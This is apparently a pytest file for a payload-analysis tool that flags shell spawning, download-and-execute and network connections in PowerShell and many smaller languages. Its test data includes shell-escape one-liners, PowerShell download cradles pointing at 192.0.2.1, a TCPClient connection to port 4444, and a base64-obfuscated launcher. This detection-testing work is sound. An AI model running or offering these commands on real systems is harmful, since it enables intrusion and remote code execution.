"""PowerShell and the smaller languages: what starts a shell, fetches and runs, is told; what does not, is not."""

from __future__ import annotations

import base64

import pytest

from flycatcher.core.payload import analyse
from flycatcher.core.snippet import Snippet
from tests.steps import at_most

CALLS = 500_000
"""The most that one of these texts takes is 300,000."""


def capabilities(language: str, text: str, interpreter: str = "x") -> set[str]:
    found = analyse(Snippet(interpreter=interpreter, language=language, vector="argument", text=text))
    return {capability.id for capability in found.capabilities}


@pytest.mark.parametrize(
    ("language", "text"),
    [
        ("powershell", "Start-Process /bin/sh"),
        ("powershell", "& '/bin/bash'"),
        ("powershell", "[System.Diagnostics.Process]::Start('/bin/sh')"),
        ("powershell", "iex ('Start-Pro' + 'cess /bin/sh')"),
        ("powershell", "$x = '/bin/sh'; & $x"),
        ("powershell", "if ($true) { & /bin/sh }"),
        ("bpftrace", 'BEGIN { system("/bin/sh"); exit() }'),
        ("prolog", "shell('/bin/sh')"),
        ("lisp", '(ext:run-shell-command "/bin/sh")'),
        ("lisp", '(sb-ext:run-program "/bin/sh" nil :input t)'),
        ("scheme", '(shell-command "/bin/sh")'),
        ("pike", 'Process.system("/bin/sh");'),
        ("nim", 'discard execShellCmd("/bin/sh")'),
        ("crystal", 'Process.exec("/bin/sh")'),
        ("coffeescript", 'require("child_process").spawn "/bin/sh"'),
        ("ocaml", 'Sys.command "/bin/sh"'),
        ("fsharp", 'System.Diagnostics.Process.Start("/bin/sh").WaitForExit()'),
        ("c", 'int main(){ system("/bin/sh"); }'),
        ("forth", 's" /bin/sh" system bye'),
        ("m4", "esyscmd(`/bin/sh')"),
        ("erb", "Dear <%= name %>,\n<% system('/bin/sh') -%>"),
        ("erb", "text\n% exec '/bin/sh'\n"),
        ("postscript", "(%pipe%/bin/sh 1>&2) (w) file"),
        ("lftp", "set x 1; !/bin/sh"),
        ("mlr", '$y = system("/bin/sh")'),
        ("mlr", 'tee | "/bin/sh", $*'),
        ("dc", "1 2 + !/bin/sh"),
        ("ed", "1,2p\n!/bin/sh"),
        ("make", "$(shell /bin/sh 1>&2)"),
        ("rpm", "%(/bin/sh 1>&2)"),
        ("rpm", '%{lua:os.execute("/bin/sh")}'),
        ("shell", "/bin/sh"),
    ],
)
def test_a_shell_for_somebody_is_told(language: str, text: str) -> None:
    assert "shell.spawn" in capabilities(language, text)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')", "network.download-and-execute"),
        ("iwr http://192.0.2.1/a | iex", "network.download-and-execute"),
        ("Invoke-WebRequest http://192.0.2.1/a -OutFile /tmp/a; & /tmp/a", "file.drop-and-run"),
        ("$c = New-Object System.Net.Sockets.TCPClient('192.0.2.1', 4444)", "network.connect"),
        ("$c = [System.Net.Sockets.TcpClient]::new('192.0.2.1', 4444)", "network.connect"),
        ("'x' | Out-File /tmp/f", "file.write"),
    ],
)
def test_powershell_is_read(text: str, expected: str) -> None:
    assert expected in capabilities("powershell", text)


@pytest.mark.parametrize(
    ("language", "text"),
    [
        ("powershell", "Write-Output '/bin/sh'"),
        ("powershell", "# & /bin/sh\nGet-Date"),
        ("powershell", '"Start-Process /bin/sh"'),
        ("powershell", "<# iex x #> 1 + 1"),
        ("dc", "2 3 + p [/bin/sh] 1 !=a"),
        ("m4", "dnl syscmd(/bin/sh)\nx"),
        ("erb", "<%# system('/bin/sh') %><%% system('/bin/sh') %>\n%% exec '/bin/sh'\n system('/bin/sh')"),
        ("make", "# $(shell /bin/sh)"),
        ("lftp", "get /bin/sh; # !/bin/sh"),
        ("mlr", '$y = "/bin/sh" . $x'),
        ("postscript", "% (%pipe%/bin/sh) (w) file\n(/bin/sh) print"),
        ("ed", "1,$p\nq"),
        ("forth", '." /bin/sh" cr'),
    ],
)
def test_what_only_speaks_of_a_shell_is_not(language: str, text: str) -> None:
    assert "shell.spawn" not in capabilities(language, text)


def test_a_shell_at_the_end_of_a_shells_own_text_is_no_spawn() -> None:
    assert "shell.spawn" not in capabilities("shell", "bash", "sh")


def test_hostile_powershell_is_read_in_time() -> None:
    for text in (
        "(" * 5000,
        "$(" * 5000,
        "{" * 5000 + "}" * 5000,
        '"$(' * 3000,
        "[" * 5000,
        "a|" * 5000,
        "@'\n" * 3000,
        "<#" * 5000,
    ):
        with at_most(CALLS):
            found = analyse(Snippet(interpreter="pwsh", language="powershell", vector="argument", text=text))
        assert found.layers[0].text == text


def test_text_in_base64_inside_powershell_is_peeled() -> None:
    inner = base64.b64encode(b"Start-Process /bin/sh").decode()
    text = f"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{inner}')))"
    assert {"shell.spawn", "eval.decoded"} <= capabilities("powershell", text)
